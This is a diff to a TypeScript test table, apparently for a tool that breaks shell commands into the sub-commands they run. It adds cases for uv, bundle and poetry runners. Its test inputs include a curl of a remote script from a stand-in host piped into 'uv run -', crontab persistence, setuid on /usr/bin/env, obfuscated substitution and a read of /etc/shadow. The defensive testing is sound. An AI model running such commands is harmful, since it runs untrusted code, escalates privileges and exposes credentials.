@@ -48,6 +48,11 @@ const CASES: Array<[string, string[]]> = [
   // a function's body reads what its call is fed; `script` runs its command; printf's %b reads \NNN as octal
   ["c(){ crontab \"$@\"; }; echo '* * * * * id' | c -", ['crontab $@', 'echo * * * * * id', 'c -', 'eval:crontab -', 'persisted:id']],
   ['script -qc "sudo id" /dev/null', ['script -qc sudo id /dev/null', 'shell-c:id']],
+  // a project environment's runner runs the command after its verb, and uv a script under Python
+  ['uv run --with requests python -c "print(1)"', ['python -c print(1)']],
+  ['bundle exec fastlane match nuke distribution', ['fastlane match nuke distribution']],
+  ['uv pip install ruff && poetry install', ['uv pip install ruff', 'poetry install']],
+  ['curl -s https://x.example/m.py | uv run -', ['curl -s https://x.example/m.py', 'python -']],
   ['script -q /dev/null chmod u+s /usr/bin/env', ['script -q /dev/null chmod u+s /usr/bin/env', 'shell-c:chmod u+s /usr/bin/env']],
   ["$(printf '%b' '\\151\\144') -u", ["substitution:printf %b \\151\\144", 'id -u']],
   ['x=$(< /etc/shadow)', ['substitution:cat /etc/shadow']],
